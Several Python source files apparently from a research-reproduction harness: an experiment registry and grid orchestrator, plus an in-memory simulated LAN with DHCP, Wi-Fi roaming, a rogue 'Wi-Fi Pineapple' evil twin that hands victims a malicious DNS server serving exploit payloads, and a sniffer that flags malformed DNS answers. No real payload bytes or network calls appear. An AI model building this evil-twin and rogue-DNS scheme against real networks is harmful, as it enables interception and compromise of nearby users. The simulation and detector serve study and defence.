    def params_dict(self) -> Dict[str, Any]:
        return dict(self.params)


@dataclass(frozen=True)
class ExperimentSpec:
    """One registered experiment: everything the harness needs to run,
    shard, gate, and document it without hand-wiring.

    ``grid`` maps parameter names to candidate-value tuples; the default
    registrations pin each axis to the runner's default (one grid point,
    exactly the legacy call), and ``repro run --grid`` or
    :func:`run_experiment`'s ``grid=`` widen axes into real sweeps.
    ``supports`` lists the passthrough kwargs the runner itself accepts
    (``workers``/``checkpoint``/``resume``/``policy``/``sweep_observer``)
    so single-point runs delegate supervision to the experiment's own
    inner sweep at trial granularity.
    """

    id: str
    title: str
    runner: Callable[..., Any]
    grid: Tuple[Tuple[str, Tuple[Any, ...]], ...] = ()
    entropy: int = 0
    #: Runner kwarg that receives the trial's derived seed (None: the
    #: runner self-seeds; the derived seed is provenance/failure context).
    seed_param: Optional[str] = None
    slos: Tuple[SloRule, ...] = SWEEP_SLOS
    expected: Callable[[Any], bool] = field(default=lambda result: result.all_pass)
    expected_doc: str = "every row's expected column says ok"
    supports: FrozenSet[str] = frozenset()
    description: str = ""

    def grid_points(self, grid: Optional[Mapping[str, Sequence[Any]]] = None,
                    params: Optional[Mapping[str, Any]] = None
                    ) -> List[Dict[str, Any]]:
        """Expand the (possibly widened) grid into ordered param dicts.

        ``grid`` replaces whole axes (and may add new ones); ``params``
        pins single values.  Axis order is sorted-by-name and value order
        is as declared, so expansion order — and therefore trial indices,
        seeds, and the grid hash — is deterministic.
        """
        axes: Dict[str, Tuple[Any, ...]] = {name: values for name, values in self.grid}
        if grid:
            for name, values in grid.items():
                axes[name] = tuple(values)
        if params:
            for name, value in params.items():
                axes[name] = (value,)
        self._check_params(axes)
        names = sorted(axes)
        if not names:
            return [{}]
        return [dict(zip(names, combo))
                for combo in itertools.product(*(axes[name] for name in names))]

    def _check_params(self, axes: Mapping[str, Any]) -> None:
        accepted = inspect.signature(self.runner).parameters
        unknown = [name for name in axes if name not in accepted]
        if unknown:
            raise ValueError(
                f"{self.id}: unknown parameter(s) {', '.join(sorted(unknown))} "
                f"(runner accepts: {', '.join(sorted(accepted))})")

    def trials(self, grid: Optional[Mapping[str, Sequence[Any]]] = None,
               params: Optional[Mapping[str, Any]] = None) -> List[GridTrial]:
        """The seeded trial list the orchestrator (and grid hash) run on."""
        return [
            GridTrial(
                experiment=self.id,
                index=index,
                params=tuple(sorted(point.items())),
                seed=derive_seed(self.id, self.entropy, index, "trial"),
            )
            for index, point in enumerate(self.grid_points(grid, params))
        ]

    @property
    def grid_hash(self) -> str:
        """Stable identity of the default grid (checkpoint/resume pin it)."""
        return compute_grid_hash(self.trials())

    def describe_row(self) -> Tuple:
        axes = ", ".join(f"{name}={list(values)!r}" for name, values in self.grid)
        return (
            self.id,
            self.title[:56],
            axes if axes else "-",
            len(self.grid_points()),
            ",".join(sorted(self.supports)) if self.supports else "-",
        )


#: The registry: experiment id -> spec, in registration (DESIGN.md) order.
REGISTRY: Dict[str, ExperimentSpec] = {}


def register_experiment(experiment_id: str, title: str, *,
                        grid: Optional[Mapping[str, Sequence[Any]]] = None,
                        entropy: Optional[int] = None,
                        seed_param: Optional[str] = None,
                        slos: Sequence[SloRule] = SWEEP_SLOS,
                        expected: Optional[Callable[[Any], bool]] = None,
                        expected_doc: str = "every row's expected column says ok",
                        supports: Iterable[str] = (),
                        description: str = ""):
    """Decorator: declare one experiment into :data:`REGISTRY`.

    The decorated runner is returned unchanged (legacy callers keep
    working); its spec is reachable as ``runner.spec`` and through
    :func:`get_experiment`.
    """
    def decorate(runner: Callable[..., Any]) -> Callable[..., Any]:
        if experiment_id in REGISTRY:
            raise ValueError(f"experiment {experiment_id!r} registered twice")
        doc = description
        if not doc and runner.__doc__:
            doc = runner.__doc__.strip().splitlines()[0]
        spec = ExperimentSpec(
            id=experiment_id,
            title=title,
            runner=runner,
            grid=tuple(sorted((name, tuple(values))
                              for name, values in (grid or {}).items())),
            entropy=(derive_seed("repro.experiments", experiment_id)
                     if entropy is None else entropy),
            seed_param=seed_param,
            slos=parse_rules(slos),
            expected=expected if expected is not None
            else (lambda result: result.all_pass),
            expected_doc=expected_doc,
            supports=frozenset(supports),
            description=doc,
        )
        REGISTRY[experiment_id] = spec
        runner.spec = spec
        return runner
    return decorate


def get_experiment(experiment_id: str) -> ExperimentSpec:
    """Resolve one spec; raises ``KeyError`` naming the known ids."""
    _ensure_registered()
    spec = REGISTRY.get(experiment_id)
    if spec is None:
        raise KeyError(
            f"unknown experiment {experiment_id!r}; known: "
            f"{', '.join(REGISTRY)}")
    return spec


def all_experiments() -> List[ExperimentSpec]:
    """Every registered spec, in registration order."""
    _ensure_registered()
    return list(REGISTRY.values())


def experiment_ids() -> List[str]:
    _ensure_registered()
    return list(REGISTRY)


def _ensure_registered() -> None:
    """Import the registrations (idempotent; matters for spawn workers)."""
    from . import experiments  # noqa: F401  (decorators populate REGISTRY)


def _run_grid_trial(trial: GridTrial) -> Any:
    """Pool worker: execute one grid point (module-level, picklable)."""
    _ensure_registered()
    spec = REGISTRY[trial.experiment]
    kwargs = trial.params_dict()
    if spec.seed_param is not None:
        kwargs.setdefault(spec.seed_param, trial.seed)
    return spec.runner(**kwargs)


# -- outcomes ----------------------------------------------------------------------


@dataclass
class TrialOutcome:
    """One grid trial's verdict: parameters, seed, result or quarantine."""

    index: int
    params: Dict[str, Any]
    seed: int
    result: Optional[Any] = None  # ExperimentResult when the trial ran
    failure: Optional[TrialFailure] = None
    expected_ok: bool = False

    @property
    def status(self) -> str:
        if self.failure is not None:
            return "quarantined"
        return "pass" if self.expected_ok else "fail"

    def row(self) -> Tuple:
        shown = ", ".join(f"{k}={v!r}" for k, v in sorted(self.params.items()))
        return (self.index, shown or "(defaults)", self.seed, self.status)

    def to_artifact_row(self) -> Dict[str, Any]:
        """One ``repro-results/v1`` line: parameters/seed/outcome/metrics."""
        return {
            "index": self.index,
            "params": self.params,
            "seed": self.seed,
            "outcome": self.status,
            "expected": self.expected_ok,
            "metrics": getattr(self.result, "metrics", None),
            "result": self.result.to_dict() if self.result is not None else None,
            "error": self.failure.to_dict() if self.failure is not None else None,
        }


@dataclass
class ExperimentRun:
    """A registry-driven run: trials + health + SLO verdicts.

    ``trials`` is positional over the expanded grid (quarantined slots
    included), so the artifact and a resumed run line up row for row.
    """

    spec: ExperimentSpec
    grid_hash: str
    trials: List[TrialOutcome]
    stats: Optional[SweepStats] = None
    slo_report: Optional[SloReport] = None

    @property
    def ok(self) -> bool:
        return all(trial.failure is None and trial.expected_ok
                   for trial in self.trials)

    @property
    def result(self):
        """The lone :class:`ExperimentResult` of a single-point run."""
        if len(self.trials) != 1:
            raise ValueError(
                f"{self.spec.id}: {len(self.trials)} trials — use .trials")
        return self.trials[0].result

    def describe(self) -> str:
        """Single-point runs render exactly like the legacy call; grids
        add per-trial parameter banners and a summary table."""
        if len(self.trials) == 1 and self.trials[0].result is not None:
            return self.trials[0].result.describe()
        sections = []
        for trial in self.trials:
            banner = ", ".join(f"{k}={v!r}" for k, v in sorted(trial.params.items()))
            sections.append(f"-- trial {trial.index} [{banner or 'defaults'}] --")
            if trial.result is not None:
                sections.append(trial.result.describe())
            else:
                sections.append(f"QUARANTINED {trial.failure.describe()}")
        sections.append(render_table(
            ("trial", "params", "seed", "outcome"),
            [trial.row() for trial in self.trials],
            title=f"{self.spec.id} grid summary ({len(self.trials)} trials, "
                  f"grid {self.grid_hash})",
        ))
        return "\n".join(sections)

    # -- the repro-results/v1 artifact -------------------------------------------

    def artifact_header(self) -> Dict[str, Any]:
        return {
            "schema": RESULTS_SCHEMA,
            "experiment": self.spec.id,
            "title": self.spec.title,
            "grid_hash": self.grid_hash,
            "total": len(self.trials),
            "seed": self.spec.entropy,
        }

    def artifact_rows(self) -> List[Dict[str, Any]]:
        return [trial.to_artifact_row() for trial in self.trials]

    def to_artifact(self) -> Dict[str, Any]:
        """The full document (header + rows) the CLI serializes/prints."""
        return {"header": self.artifact_header(), "rows": self.artifact_rows()}


def _checkpoint_experiment_id(spec: ExperimentSpec) -> str:
    return f"{spec.id}.grid"


def run_experiment(spec_or_id, *,
                   grid: Optional[Mapping[str, Sequence[Any]]] = None,
                   params: Optional[Mapping[str, Any]] = None,
                   workers: Optional[int] = 1,
                   policy: Optional[RunPolicy] = None,
                   checkpoint: Optional[str] = None,
                   resume: bool = False,
                   sweep_observer: Optional[Collector] = None) -> ExperimentRun:
    """Run one registered experiment through the grid orchestrator.

    Single-point grids whose runner natively supports the requested
    facilities delegate to the experiment's *inner* sweep (checkpointing
    at trial granularity — ``repro run E15 --checkpoint`` journals every
    brute-force trial, not one opaque blob).  Everything else fans the
    grid out over :func:`~repro.core.parallel.run_supervised`: trials are
    seeded and positional, ``workers=N`` reproduces sequential results
    bit for bit, and a ``checkpoint``-journaled run killed mid-grid
    resumes (``resume=True``) into a byte-identical artifact.

    The spec's SLO rules are evaluated against ``sweep_observer`` (one is
    created when not supplied) and attached as ``run.slo_report`` —
    harness health (quarantines, retries) gates the CLI exit code without
    ever leaking wall-clock telemetry into the deterministic artifact.
    """
    spec = (get_experiment(spec_or_id) if isinstance(spec_or_id, str)
            else spec_or_id)
    trials = spec.trials(grid, params)
    hash_ = compute_grid_hash(trials)
    observer = sweep_observer if sweep_observer is not None else Collector()

    wants = set()
    if checkpoint is not None or resume:
        wants.add("checkpoint")
    if policy is not None:
        wants.add("policy")
    inner = len(trials) == 1 and wants <= spec.supports

    outcomes: List[TrialOutcome]
    stats: Optional[SweepStats] = None
    if inner:
        kwargs = trials[0].params_dict()
        if spec.seed_param is not None:
            kwargs.setdefault(spec.seed_param, trials[0].seed)
        if "workers" in spec.supports:
            kwargs["workers"] = workers
        if "checkpoint" in spec.supports and (checkpoint is not None or resume):
            kwargs["checkpoint"] = checkpoint
            kwargs["resume"] = resume
        if "policy" in spec.supports and policy is not None:
            kwargs["policy"] = policy
        if "sweep_observer" in spec.supports:
            kwargs["sweep_observer"] = observer
        result = spec.runner(**kwargs)
        outcomes = [TrialOutcome(
            index=0, params=trials[0].params_dict(), seed=trials[0].seed,
            result=result, expected_ok=bool(spec.expected(result)),
        )]
    else:
        journal = None
        if checkpoint is not None:
            journal = SweepCheckpoint(
                checkpoint, experiment=_checkpoint_experiment_id(spec),
                grid_hash=hash_, total=len(trials), seed=spec.entropy,
                resume=resume,
            )
        try:
            outcome = run_supervised(
                _run_grid_trial, trials, workers=workers,
                policy=policy if policy is not None else DEFAULT_POLICY,
                observer=observer, checkpoint=journal, label=spec.id,
            )
        finally:
            if journal is not None:
                journal.close()
        stats = outcome.stats
        outcomes = []
        for trial, payload in zip(trials, outcome.results):
            if isinstance(payload, TrialFailure):
                outcomes.append(TrialOutcome(
                    index=trial.index, params=trial.params_dict(),
                    seed=trial.seed, failure=payload))
            else:
                outcomes.append(TrialOutcome(
                    index=trial.index, params=trial.params_dict(),
                    seed=trial.seed, result=payload,
                    expected_ok=bool(spec.expected(payload))))

    run = ExperimentRun(spec=spec, grid_hash=hash_, trials=outcomes,
                        stats=stats)
    run.slo_report = evaluate_slos(spec.slos, observer, emit=False)
    return run


# -- rendering helpers shared by the CLI (report / dash / bench gate) --------------


def render_registry_table() -> str:
    """`repro experiments --list`: the registry as a verdictless table."""
    return render_table(
        ("id", "title", "grid axes", "trials", "passthrough"),
        [spec.describe_row() for spec in all_experiments()],
        title=f"experiment registry ({len(REGISTRY)} experiments)",
    )


def registry_index_markdown() -> str:
    """The EXPERIMENTS.md registry index (regenerated, not hand-edited)."""
    lines = [
        "| Exp | Title | Grid axes | Passthrough |",
        "|---|---|---|---|",
    ]
    for spec in all_experiments():
        axes = ", ".join(f"`{name}`" for name, _values in spec.grid) or "—"
        passthrough = ", ".join(f"`{name}`" for name in sorted(spec.supports)) or "—"
        lines.append(f"| {spec.id} | {spec.title} | {axes} | {passthrough} |")
    return "\n".join(lines)


def render_results_panel(header: Dict[str, Any],
                         rows: Sequence[Dict[str, Any]]) -> str:
    """One artifact's trial table (`repro dash --results`, report footer)."""
    body = []
    for row in rows:
        shown = ", ".join(f"{k}={v!r}" for k, v in sorted(row["params"].items()))
        body.append((row["index"], shown or "(defaults)", row["seed"],
                     row["outcome"], "ok" if row["expected"] else "MISMATCH"))
    return render_table(
        ("trial", "params", "seed", "outcome", "expected"),
        body,
        title=(f"{header['experiment']}: {header['title']} "
               f"(grid {header['grid_hash']}, {header['total']} trials)"),
    )


def results_ok(rows: Sequence[Dict[str, Any]]) -> bool:
    """The artifact-level gate verdict the bench/dash consumers share."""
    return all(row["outcome"] == "pass" and row["expected"] for row in rows)
