"""DHCP: the lever the Pineapple pulls to point victims at the rogue DNS.

Models the DISCOVER → OFFER → REQUEST → ACK exchange with the two options
that matter for the attack: router and domain-name-server.  "We set the
Pineapple to ... utilize DHCP to assign our malicious DNS server to
clients" (§III-D).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional


@dataclass(frozen=True)
class DhcpOffer:
    ip: str
    router: str
    dns_server: str
    lease_seconds: int = 86400


@dataclass(frozen=True)
class DhcpAck:
    offer: DhcpOffer
    server_id: str


class DhcpServer:
    """Address pool plus the network configuration options it hands out."""

    def __init__(self, subnet_prefix: str, router: str, dns_server: str,
                 pool_start: int = 50, pool_size: int = 100):
        self.subnet_prefix = subnet_prefix
        self.router = router
        self.dns_server = dns_server
        self.pool_start = pool_start
        self.pool_size = pool_size
        self._leases: Dict[str, DhcpOffer] = {}

    def handle_discover(self, mac: str) -> Optional[DhcpOffer]:
        existing = self._leases.get(mac)
        if existing is not None:
            return existing
        index = len(self._leases)
        if index >= self.pool_size:
            return None
        offer = DhcpOffer(
            ip=f"{self.subnet_prefix}.{self.pool_start + index}",
            router=self.router,
            dns_server=self.dns_server,
        )
        return offer

    def handle_request(self, mac: str, offer: DhcpOffer) -> Optional[DhcpAck]:
        granted = self.handle_discover(mac)
        if granted is None or granted.ip != offer.ip:
            return None
        self._leases[mac] = granted
        return DhcpAck(offer=granted, server_id=self.router)

    def lease_for(self, mac: str) -> Optional[DhcpOffer]:
        return self._leases.get(mac)

    @property
    def lease_count(self) -> int:
        return len(self._leases)


def run_handshake(server: DhcpServer, mac: str) -> Optional[DhcpAck]:
    """Client-side DISCOVER/OFFER/REQUEST/ACK against one server."""
    offer = server.handle_discover(mac)
    if offer is None:
        return None
    return server.handle_request(mac, offer)
