"""Datagram model for the simulated LAN."""

from __future__ import annotations

from dataclasses import dataclass

DNS_PORT = 53
DHCP_SERVER_PORT = 67


@dataclass(frozen=True)
class UdpDatagram:
    src_ip: str
    src_port: int
    dst_ip: str
    dst_port: int
    payload: bytes

    def describe(self) -> str:
        return (
            f"{self.src_ip}:{self.src_port} -> {self.dst_ip}:{self.dst_port} "
            f"({len(self.payload)} bytes)"
        )
