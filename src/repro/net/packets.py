"""Datagram model for the simulated LAN."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

DNS_PORT = 53
DHCP_SERVER_PORT = 67


@dataclass(frozen=True)
class UdpDatagram:
    src_ip: str
    src_port: int
    dst_ip: str
    dst_port: int
    payload: bytes
    #: Trace context: id of the ``net.deliver`` span carrying this datagram,
    #: stamped by :meth:`Network.deliver` when the network is observed.
    #: Metadata only — excluded from equality/repr so observation never
    #: changes how datagrams compare or round-trip through captures.
    span_id: Optional[int] = field(default=None, compare=False, repr=False)

    def describe(self) -> str:
        return (
            f"{self.src_ip}:{self.src_port} -> {self.dst_ip}:{self.dst_port} "
            f"({len(self.payload)} bytes)"
        )
