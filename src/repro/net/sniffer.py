"""Packet capture and analysis over the simulated LAN.

A :class:`PacketSniffer` taps one or more networks and renders a
tcpdump-ish view of the traffic, decoding DNS payloads — the tool the
defender (or the curious reader) points at the Pineapple LAN to watch the
exploit-bearing answers fly by.  Detection heuristics flag the paper's
payloads: answers whose name field is wildly oversized or carries
non-hostname bytes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..dns import HEADER_LENGTH, Message
from .network import Network
from .packets import DNS_PORT, UdpDatagram

#: Benign hostnames stay well under this on the wire (RFC 1035: 255).
SUSPICIOUS_NAME_WIRE_LENGTH = 255


@dataclass
class CapturedPacket:
    datagram: UdpDatagram
    network: str
    dns: Optional[Message] = None
    suspicious: bool = False
    reason: str = ""

    def describe(self) -> str:
        base = f"[{self.network}] {self.datagram.describe()}"
        if self.dns is not None:
            kind = "response" if self.dns.is_response else "query"
            names = ", ".join(q.name for q in self.dns.questions) or "?"
            base += f" DNS {kind} id={self.dns.id} {names}"
        if self.suspicious:
            base += f"  !! {self.reason}"
        return base


@dataclass
class PacketSniffer:
    """Tap networks and classify what crosses them."""

    captured: List[CapturedPacket] = field(default_factory=list)
    _cursors: dict = field(default_factory=dict)
    _networks: List[Network] = field(default_factory=list)

    def attach(self, network: Network) -> None:
        if network not in self._networks:
            self._networks.append(network)
            self._cursors[network.name] = len(network.traffic)

    def poll(self) -> List[CapturedPacket]:
        """Pull newly-seen datagrams from every attached network."""
        fresh: List[CapturedPacket] = []
        for network in self._networks:
            cursor = self._cursors[network.name]
            for datagram in network.traffic[cursor:]:
                fresh.append(self._classify(datagram, network.name))
            self._cursors[network.name] = len(network.traffic)
        self.captured.extend(fresh)
        return fresh

    def _classify(self, datagram: UdpDatagram, network_name: str) -> CapturedPacket:
        packet = CapturedPacket(datagram=datagram, network=network_name)
        if datagram.dst_port != DNS_PORT and datagram.src_port != DNS_PORT:
            return packet
        try:
            packet.dns = Message.decode(datagram.payload)
        except Exception:
            # The benign codec refused it: oversized labels / raw exploit
            # bytes in the answer name — exactly the paper's payload shape.
            if len(datagram.payload) >= HEADER_LENGTH:
                packet.suspicious = True
                packet.reason = "undecodable DNS payload (malformed name field)"
            return packet
        if packet.dns.is_response:
            wire_answers = len(datagram.payload) - HEADER_LENGTH
            if wire_answers > SUSPICIOUS_NAME_WIRE_LENGTH + 64:
                packet.suspicious = True
                packet.reason = f"oversized response body ({wire_answers} bytes)"
        return packet

    # -- reporting --------------------------------------------------------------

    def dns_packets(self) -> List[CapturedPacket]:
        return [p for p in self.captured if p.dns is not None or p.suspicious]

    def suspicious_packets(self) -> List[CapturedPacket]:
        return [p for p in self.captured if p.suspicious]

    def describe(self, last: Optional[int] = None) -> str:
        packets = self.captured if last is None else self.captured[-last:]
        return "\n".join(p.describe() for p in packets)
