"""Wireless layer: access points, signal strength, station roaming.

Association policy mirrors what makes the evil-twin attack work on real
clients: a station joins the *strongest* access point broadcasting an SSID
it knows — "the Wi-Fi Pineapple is able to broadcast a stronger signal than
the legitimate access point, causing our targeted machine to switch its
connection" (§III-D).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import List, Optional

from .dhcp import DhcpServer, run_handshake
from .host import Host
from .network import Network

_bssid_counter = itertools.count(1)


def next_bssid() -> str:
    value = next(_bssid_counter)
    return "aa:bb:cc:%02x:%02x:%02x" % ((value >> 16) & 0xFF, (value >> 8) & 0xFF, value & 0xFF)


@dataclass
class AccessPoint:
    """One BSS: an SSID at a signal level, backed by a network + DHCP."""

    ssid: str
    network: Network
    dhcp: DhcpServer
    signal_dbm: int = -60
    bssid: str = field(default_factory=next_bssid)

    def describe(self) -> str:
        return f"{self.ssid} [{self.bssid}] {self.signal_dbm} dBm on {self.network.name}"


class RadioEnvironment:
    """Everything currently on the air at the victim's location."""

    def __init__(self) -> None:
        self._aps: List[AccessPoint] = []

    def add(self, ap: AccessPoint) -> AccessPoint:
        self._aps.append(ap)
        return ap

    def remove(self, ap: AccessPoint) -> None:
        self._aps.remove(ap)

    def scan(self) -> List[AccessPoint]:
        """Visible APs, strongest first (the order a scan list shows)."""
        return sorted(self._aps, key=lambda ap: ap.signal_dbm, reverse=True)


@dataclass
class AssociationRecord:
    ap: AccessPoint
    ip: str
    dns_server: str


class WirelessStation:
    """A Wi-Fi client interface for one host, with auto-join semantics."""

    def __init__(self, host: Host, known_ssids: List[str]):
        self.host = host
        self.known_ssids = list(known_ssids)
        self.association: Optional[AssociationRecord] = None
        self.history: List[AssociationRecord] = []

    def best_candidate(self, radio: RadioEnvironment) -> Optional[AccessPoint]:
        for ap in radio.scan():
            if ap.ssid in self.known_ssids:
                return ap
        return None

    def associate(self, ap: AccessPoint) -> AssociationRecord:
        """Join the AP: attach to its network and run DHCP (auto settings)."""
        ack = run_handshake(ap.dhcp, self.host.mac)
        if ack is None:
            raise RuntimeError(f"{ap.ssid}: DHCP pool exhausted")
        ap.network.attach(self.host, ip=ack.offer.ip)
        self.host.configure(
            ip=ack.offer.ip, gateway=ack.offer.router, dns_server=ack.offer.dns_server
        )
        self.association = AssociationRecord(
            ap=ap, ip=ack.offer.ip, dns_server=ack.offer.dns_server
        )
        self.history.append(self.association)
        return self.association

    def auto_join(self, radio: RadioEnvironment) -> Optional[AssociationRecord]:
        """Scan and (re)associate to the strongest known SSID.

        Returns the new association when the station moved, None otherwise.
        """
        candidate = self.best_candidate(radio)
        if candidate is None:
            return None
        if self.association is not None and self.association.ap is candidate:
            return None
        return self.associate(candidate)
