"""Hosts: addressable endpoints with UDP services and resolver config."""

from __future__ import annotations

import itertools
from typing import Callable, Dict, Optional, TYPE_CHECKING

from .packets import DNS_PORT, UdpDatagram

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from .network import Network

#: A UDP service: request payload + datagram context -> optional response.
UdpHandler = Callable[[bytes, UdpDatagram], Optional[bytes]]

_mac_counter = itertools.count(1)


def next_mac() -> str:
    value = next(_mac_counter)
    return "02:00:00:%02x:%02x:%02x" % ((value >> 16) & 0xFF, (value >> 8) & 0xFF, value & 0xFF)


class Host:
    """One machine on (at most) one network at a time."""

    def __init__(self, name: str, mac: Optional[str] = None):
        self.name = name
        self.mac = mac or next_mac()
        self.ip: Optional[str] = None
        self.network: Optional["Network"] = None
        self.gateway: Optional[str] = None
        #: /etc/resolv.conf equivalent.
        self.dns_server: Optional[str] = None
        self._services: Dict[int, UdpHandler] = {}

    # -- configuration --------------------------------------------------------

    def bind_udp(self, port: int, handler: UdpHandler) -> None:
        if port in self._services:
            raise ValueError(f"{self.name}: port {port} already bound")
        self._services[port] = handler

    def unbind_udp(self, port: int) -> None:
        self._services.pop(port, None)

    def service_on(self, port: int) -> Optional[UdpHandler]:
        return self._services.get(port)

    def configure(self, *, ip: str, gateway: Optional[str] = None,
                  dns_server: Optional[str] = None) -> None:
        self.ip = ip
        if gateway is not None:
            self.gateway = gateway
        if dns_server is not None:
            self.dns_server = dns_server

    # -- traffic ------------------------------------------------------------------

    def send_udp(self, dst_ip: str, dst_port: int, payload: bytes) -> Optional[bytes]:
        """Synchronous request/response send over the attached network."""
        if self.network is None or self.ip is None:
            return None
        return self.network.deliver(
            UdpDatagram(src_ip=self.ip, src_port=40000, dst_ip=dst_ip,
                        dst_port=dst_port, payload=payload)
        )

    def dns_transport(self) -> Callable[[bytes], Optional[bytes]]:
        """A DNS transport to this host's configured resolver."""

        def transport(query: bytes) -> Optional[bytes]:
            if self.dns_server is None:
                return None
            return self.send_udp(self.dns_server, DNS_PORT, query)

        return transport

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        where = f"{self.ip}@{self.network.name}" if self.network else "detached"
        return f"Host({self.name!r}, {where})"
