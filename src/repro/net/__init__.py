"""Simulated network: hosts, LANs, DHCP, wireless roaming, Wi-Fi Pineapple."""

from .dhcp import DhcpAck, DhcpOffer, DhcpServer, run_handshake
from .faults import (
    ChaosSchedule,
    FaultPolicy,
    FaultRates,
    FaultRecord,
    FaultWindow,
    faulty_transport,
)
from .host import Host, UdpHandler, next_mac
from .network import Network
from .packets import DHCP_SERVER_PORT, DNS_PORT, UdpDatagram
from .sniffer import CapturedPacket, PacketSniffer
from .pineapple import DEFAULT_ROGUE_SIGNAL_DBM, PINEAPPLE_SUBNET, WifiPineapple
from .wireless import (
    AccessPoint,
    AssociationRecord,
    RadioEnvironment,
    WirelessStation,
    next_bssid,
)

__all__ = [
    "AccessPoint",
    "AssociationRecord",
    "DEFAULT_ROGUE_SIGNAL_DBM",
    "DhcpAck",
    "DhcpOffer",
    "DhcpServer",
    "DHCP_SERVER_PORT",
    "DNS_PORT",
    "ChaosSchedule",
    "FaultPolicy",
    "FaultRates",
    "FaultRecord",
    "FaultWindow",
    "faulty_transport",
    "Host",
    "Network",
    "CapturedPacket",
    "PacketSniffer",
    "next_bssid",
    "next_mac",
    "PINEAPPLE_SUBNET",
    "RadioEnvironment",
    "run_handshake",
    "UdpDatagram",
    "UdpHandler",
    "WifiPineapple",
    "WirelessStation",
]
