"""The Wi-Fi Pineapple: rogue AP + DHCP + malicious DNS in one box (§III-D).

``impersonate`` raises an evil twin of a trusted SSID at high signal; any
station that roams to it gets a DHCP lease whose domain-name-server option
points at the Pineapple itself, where the malicious DNS server (serving the
exploit payload in every Type A answer) listens on port 53.
"""

from __future__ import annotations

from typing import List, Optional

from ..dns import MaliciousDnsServer
from .dhcp import DhcpServer
from .host import Host
from .network import Network
from .packets import DNS_PORT
from .wireless import AccessPoint, RadioEnvironment

PINEAPPLE_SUBNET = "172.16.42"
#: Strong enough to out-shout any household AP.
DEFAULT_ROGUE_SIGNAL_DBM = -25


class WifiPineapple:
    """A portable rogue-AP platform with a payload-serving resolver."""

    def __init__(self, dns_service: MaliciousDnsServer,
                 subnet_prefix: str = PINEAPPLE_SUBNET):
        self.network = Network("pineapple-lan", subnet_prefix=subnet_prefix)
        self.host = Host("wifi-pineapple")
        self.network.attach(self.host, ip=f"{subnet_prefix}.1")
        self.dns_service = dns_service
        self.host.bind_udp(DNS_PORT, lambda payload, _dgram: dns_service.handle_query(payload))
        self.dhcp = DhcpServer(
            subnet_prefix=subnet_prefix,
            router=self.host.ip,
            dns_server=self.host.ip,  # the rogue resolver is the box itself
        )
        self.broadcasts: List[AccessPoint] = []

    def serve_payload(self, dns_service: MaliciousDnsServer) -> None:
        """Swap the payload being served (e.g. escalate up the ladder)."""
        self.dns_service = dns_service
        self.host.unbind_udp(DNS_PORT)
        self.host.bind_udp(DNS_PORT, lambda payload, _dgram: dns_service.handle_query(payload))

    def impersonate(
        self,
        ssid: str,
        radio: RadioEnvironment,
        signal_dbm: int = DEFAULT_ROGUE_SIGNAL_DBM,
    ) -> AccessPoint:
        """Broadcast an evil twin of ``ssid`` into the radio environment."""
        ap = AccessPoint(
            ssid=ssid, network=self.network, dhcp=self.dhcp, signal_dbm=signal_dbm
        )
        self.broadcasts.append(ap)
        radio.add(ap)
        return ap

    def stop_broadcast(self, radio: RadioEnvironment, ap: Optional[AccessPoint] = None) -> None:
        targets = [ap] if ap is not None else list(self.broadcasts)
        for target in targets:
            radio.remove(target)
            self.broadcasts.remove(target)

    @property
    def captured_queries(self) -> List[str]:
        """DNS names the rogue resolver has answered with payloads."""
        return list(self.dns_service.served)
