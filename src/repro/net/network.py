"""A broadcast domain: attached hosts, IP assignment, datagram delivery."""

from __future__ import annotations

from typing import Dict, List, Optional, Union

from .faults import DUPLICATE, ChaosSchedule, FaultPolicy
from .host import Host
from .packets import UdpDatagram


class Network:
    """One LAN segment with a /24-ish address pool.

    When ``faults`` is set (a :class:`FaultPolicy` or a
    :class:`ChaosSchedule`), every delivery leg — request and reply —
    crosses the fault fabric; with the default ``None`` the fabric is the
    original perfect synchronous wire.
    """

    def __init__(self, name: str, subnet_prefix: str = "192.168.1",
                 faults: Optional[Union[FaultPolicy, ChaosSchedule]] = None):
        self.name = name
        self.subnet_prefix = subnet_prefix
        self.faults = faults
        self._hosts: Dict[str, Host] = {}
        self._next_host_number = 100
        self.traffic: List[UdpDatagram] = []

    # -- membership ---------------------------------------------------------------

    def allocate_ip(self) -> str:
        while True:
            candidate = f"{self.subnet_prefix}.{self._next_host_number}"
            self._next_host_number += 1
            if candidate not in self._hosts:
                return candidate

    def attach(self, host: Host, ip: Optional[str] = None) -> str:
        if host.network is not None:
            host.network.detach(host)
        address = ip or self.allocate_ip()
        if address in self._hosts:
            raise ValueError(f"{self.name}: address {address} already in use")
        self._hosts[address] = host
        host.network = self
        host.ip = address
        return address

    def detach(self, host: Host) -> None:
        if host.ip in self._hosts and self._hosts[host.ip] is host:
            del self._hosts[host.ip]
        host.network = None
        host.ip = None

    def host_by_ip(self, ip: str) -> Optional[Host]:
        return self._hosts.get(ip)

    def hosts(self) -> List[Host]:
        return list(self._hosts.values())

    # -- delivery ---------------------------------------------------------------------

    def deliver(self, datagram: UdpDatagram) -> Optional[bytes]:
        """Route one datagram to its destination service, synchronously.

        Both legs (request and the service's reply) land in the traffic
        log, so taps see the whole exchange.
        """
        self.traffic.append(datagram)
        payload = datagram.payload
        duplicated = False
        if self.faults is not None:
            payload, record = self.faults.process(
                payload, src=datagram.src_ip, dst=datagram.dst_ip
            )
            if payload is None:
                return None
            duplicated = record.kind == DUPLICATE
        destination = self.host_by_ip(datagram.dst_ip)
        if destination is None:
            return None
        handler = destination.service_on(datagram.dst_port)
        if handler is None:
            return None
        response = handler(payload, datagram)
        if duplicated:
            # The copy arrives too; the first answer already won the socket.
            handler(payload, datagram)
        if response is not None and self.faults is not None:
            response, _record = self.faults.process(
                response, src=datagram.dst_ip, dst=datagram.src_ip
            )
        if response is not None:
            self.traffic.append(
                UdpDatagram(
                    src_ip=datagram.dst_ip,
                    src_port=datagram.dst_port,
                    dst_ip=datagram.src_ip,
                    dst_port=datagram.src_port,
                    payload=response,
                )
            )
        return response

    def describe(self) -> str:
        members = ", ".join(f"{h.name}={ip}" for ip, h in sorted(self._hosts.items()))
        return f"{self.name} ({self.subnet_prefix}.0/24): {members}"
