"""A broadcast domain: attached hosts, IP assignment, datagram delivery."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Dict, List, Optional, Union

